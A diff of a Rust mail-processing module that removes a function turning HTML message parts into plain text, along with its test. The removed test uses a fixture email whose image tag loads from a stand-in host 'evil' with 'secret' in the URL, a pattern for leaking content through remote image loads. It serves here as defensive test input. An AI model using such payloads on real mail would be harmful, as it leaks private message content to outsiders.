@@ -1,5 +1,4 @@
-//! The banner put into the main text of an opened message, and what is done to the text before: marks of ours that
-//! others wrote are defanged, HTML that must not be shown becomes text.
+//! The banner put into the main text of an opened message; before that, marks of ours that others wrote are defanged.
 
 use super::header::is_ours;
 use super::html::{self, ATTRIBUTE, Piece};
@@ -33,11 +32,6 @@ pub fn paragraph(verdict: &Verdict) -> String {
 /// The content of others without our marks; `None`: it has none.
 pub fn neutralise(content: &[u8]) -> Option<Vec<u8>> {
     edit(content, &mut Neutralise)
-}
-
-/// The content with every HTML part made text; `None`: it has none.
-pub fn text_only(content: &[u8]) -> Option<Vec<u8>> {
-    edit(content, &mut TextOnly)
 }
 
 struct Insert {
@@ -76,18 +70,6 @@ impl Editor for Neutralise {
         match defang(part.text, html) {
             Some(text) => Change::Text(text),
             None => Change::Keep,
-        }
-    }
-}
-
-struct TextOnly;
-
-impl Editor for TextOnly {
-    fn text(&mut self, part: &TextPart<'_>) -> Change {
-        if is_html(&part.entity.media_type) {
-            Change::Retype("text/plain", html::to_text(part.text))
-        } else {
-            Change::Keep
         }
     }
 }
@@ -226,15 +208,5 @@ mod tests {
         );
         assert!(!out.contains("X-Souspli"));
         assert_eq!(neutralise(b"Content-Type: text/html\r\n\r\n<p>Souspli"), None);
-    }
-
-    #[test]
-    fn html_that_must_not_be_shown_becomes_text() {
-        let mail = b"Content-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://evil/?<p>secret</p>\"><p>Bonjour</p>";
-        let out = String::from_utf8(text_only(mail).unwrap()).unwrap();
-        assert!(
-            out.starts_with("Content-Type: text/plain;") && out.contains("Bonjour") && !out.contains("evil"),
-            "{out}"
-        );
     }
 }
